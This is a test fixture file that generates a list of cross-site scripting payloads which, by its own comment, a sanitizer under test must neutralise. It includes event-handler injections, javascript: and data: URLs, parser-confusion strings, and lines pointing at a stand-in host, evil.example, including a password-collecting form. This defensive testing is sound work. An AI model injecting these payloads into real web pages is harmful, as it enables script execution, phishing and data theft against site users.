/** Generated XSS payloads; none may survive sanitizing. */
const tags =
	"img svg body video audio details input marquee iframe object embed form a math style link base div p select textarea".split(
		" ",
	);
const handlers = "onerror onload onclick ontoggle onfocus".split(" ");
const drawn = tags.flatMap((tag) =>
	handlers.map((handler) => `<${tag} src=x href=x open autofocus ${handler}=alert(1)>oi</${tag}>`),
);

const addresses = [
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	"java\nscript:alert(1)",
	"java&#115;cript:alert(1)",
	"&#x6a;avascript:alert(1)",
	" \u0001javascript:alert(1)",
	"vbscript:msgbox(1)",
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"file:///etc/passwd",
	"//evil.example/x",
].map((address) => `<a href="${address}">clique</a>`);

const written = [
	"<script>alert(1)</script>",
	"<ScRiPt>alert(1)</sCrIpT>",
	"<scr<script>ipt>alert(1)</script>",
	"<script src=//evil.example></script>",
	"<script/x>alert(1)</script>",
	"<<script>alert(1)//<</script>",
	'"><script>alert(1)</script>',
	"<svg><script>alert(1)</script></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x>",
	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"<style>@import 'javascript:alert(1)';</style>",
	'<p style="background:url(javascript:alert(1))">oi</p>',
	'<p style="width:expression(alert(1))">oi</p>',
	'<p style="position:fixed;inset:0;z-index:9999">oi</p>',
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<base href=//evil.example/>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<object data=data:text/html,x></object>",
	"<embed src=//evil.example/x.swf>",
	"<form action=//evil.example><input name=password></form>",
	"<button formaction=javascript:alert(1)>x</button>",
	"<img src=x:x onerror\n=alert(1)>",
	"<img/src=x/onerror=alert(1)>",
	"<img src='x' \u000conerror=alert(1)>",
	"<a href=https://ok.example onclick=alert(1)>ok</a>",
	"<a href='https://ok.example' target=_blank rel=opener>ok</a>",
	"<template><script>alert(1)</script></template>",
	"<textarea><script>alert(1)</script></textarea>",
	"<title><img src=x onerror=alert(1)></title>",
	"<xmp><img src=x onerror=alert(1)></xmp>",
	"<plaintext><script>alert(1)</script>",
];

export const hostileHtml: readonly string[] = [...drawn, ...addresses, ...written];
